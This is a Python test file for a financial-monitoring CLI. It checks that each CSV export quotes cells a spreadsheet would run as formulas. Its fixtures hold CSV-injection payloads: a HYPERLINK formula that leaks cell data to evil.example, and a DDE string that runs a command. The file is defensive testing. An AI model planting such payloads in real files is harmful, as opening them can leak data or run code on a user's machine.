"""CSV injection (issue 16, finding 9): no CSV finmon writes holds a cell that a spreadsheet
would run as a formula. Each export goes through the real command with hostile values and is
read back."""

from __future__ import annotations

import csv
import dataclasses
import io
from pathlib import Path

import pytest
from typer.testing import CliRunner

from finmon.cli import app
from finmon.exports import FORMULA_STARTS, SafeDictWriter, safe_cell
from finmon.services.demo import write_customers
from finmon.store import load_list
from finmon.workflow.access import Role
from tests.accounts import make_users
from tests.store.test_transactions import ROWS
from tests.store.test_transactions import _write as write_payments
from tests.store.workflow_data import fixture_designations, un_version
from tests.travel.test_travel_screen import MANIFEST

LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
CMD = "+cmd|' /C calc'!A0"
LISTED_NAME = "Карагулов Тимур Ахатович"
runner = CliRunner()


def _ok(*args: str | Path) -> None:
    result = runner.invoke(app, [str(a) for a in args])
    assert result.exit_code == 0, result.output


def _cells(path: Path) -> list[list[str]]:
    """Every row of a CSV file (the header too), after checking that no cell is a formula."""
    with path.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.reader(handle))
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS) or _number(cell), (path.name, cell)
    return rows


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def _holds(path: Path, *values: str) -> None:
    """The file is formula-free and shows each value, quoted as text."""
    text = [cell for row in _cells(path) for cell in row]
    for value in values:
        assert "'" + value in text or any("'" + value in cell for cell in text), (path, value)


@pytest.fixture
def listed() -> None:
    assert load_list(un_version("2026-01-15", fixture_designations()), actor="loader").loaded


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        (CMD, "'" + CMD),
        ("@SUM(1)", "'@SUM(1)"),
        ("-2+3", "'-2+3"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-5.00", "-5.00"),
        ("+3", "+3"),
        ("-1e3", "-1e3"),
        ("-", "'-"),
        ("plain", "plain"),
        ("a=1", "a=1"),
        (-5, -5),
        (None, None),
    ],
)
def test_a_cell_is_quoted_when_a_spreadsheet_would_run_it(value: object, written: object) -> None:
    assert safe_cell(value) == written


def test_the_header_is_neutralised_too() -> None:
    buffer = io.StringIO()
    writer = SafeDictWriter(buffer, fieldnames=["=a", "b"])
    writer.writeheader()
    writer.writerows([{"=a": "@x", "b": "-7.5"}])
    assert buffer.getvalue().splitlines() == ["'=a,b", "'@x,-7.5"]


def test_screening_hits(listed: None, tmp_path: Path) -> None:
    customers = tmp_path / "customers.csv"
    customers.write_text(f"id,name\n{_quoted(LINK)},{LISTED_NAME}\n", encoding="utf-8")
    hits = tmp_path / "hits.csv"
    _ok("screen", customers, "--output", hits)
    assert len(_cells(hits)) > 1
    _holds(hits, LINK)


def _quoted(value: str) -> str:
    return '"' + value.replace('"', '""') + '"'


def test_scored_pairs(tmp_path: Path) -> None:
    pairs = tmp_path / "pairs.csv"
    pairs.write_text(f"name1,name2,=note\n-2+3,{_quoted(CMD)},@SUM(1)\n", encoding="utf-8")
    scores = tmp_path / "scores.csv"
    _ok("compare", "--pairs", pairs, "--output", scores)
    _holds(scores, "=note", "-2+3", CMD, "@SUM(1)")


def test_alerts_the_sla_list_freezes_and_the_fiu_notification(listed: None, tmp_path: Path) -> None:
    customers = tmp_path / "customers.csv"
    customers.write_text(
        f"id,name,accounts\n{_quoted(LINK)},{LISTED_NAME},@SUM(1)\n", encoding="utf-8"
    )
    _ok("customers", "import", customers)
    for command, name in (("alerts", "alerts.csv"), ("freezes", "sla.csv")):
        output = tmp_path / name
        _ok(command, "sla" if command == "freezes" else "list", "--output", output)
        _holds(output, LINK)
    make_users({"anna": Role.ANALYST, "bolat": Role.SUPERVISOR})
    _ok("--actor", "anna", "alerts", "decide", "1", "--decision", "confirmed_hit")
    _ok("--actor", "bolat", "alerts", "approve", "1")
    freezes, notice = tmp_path / "freezes.csv", tmp_path / "notice.csv"
    _ok("--actor", "anna", "freezes", "list", "--output", freezes)
    _ok("--actor", "anna", "freezes", "notify", "1", "--output", notice)
    for output in (freezes, notice):
        _holds(output, LINK, "@SUM(1)")


def test_travel_hits(listed: None, tmp_path: Path) -> None:
    manifest = tmp_path / "kc901.edi"
    manifest.write_text(MANIFEST.replace("TDT+20+KC901+", "TDT+20+@SUM(1)+"), encoding="utf-8")
    hits = tmp_path / "hits.csv"
    _ok("travel", "screen", manifest, "--output", hits)
    _holds(hits, "@SUM(1)")


def test_payment_decisions_and_monitoring_alerts(listed: None, tmp_path: Path) -> None:
    rows = [[LINK, *ROWS[0][1:]], *ROWS[1:]]
    payments = write_payments(tmp_path / "payments.csv", rows)
    decisions = tmp_path / "decisions.csv"
    _ok("check-payment", payments, "--output", decisions)
    _holds(decisions, LINK)
    _ok("transactions", "load", payments)
    alerts = tmp_path / "alerts.csv"
    _ok("transactions", "alerts", "--output", alerts)
    _holds(alerts, LINK)


def test_the_demos_customers(tmp_path: Path) -> None:
    hostile = [dataclasses.replace(d, nationalities=["@1"]) for d in fixture_designations()]
    customers = tmp_path / "customers.csv"
    assert write_customers(customers, hostile, count=5)
    _holds(customers, "@1")
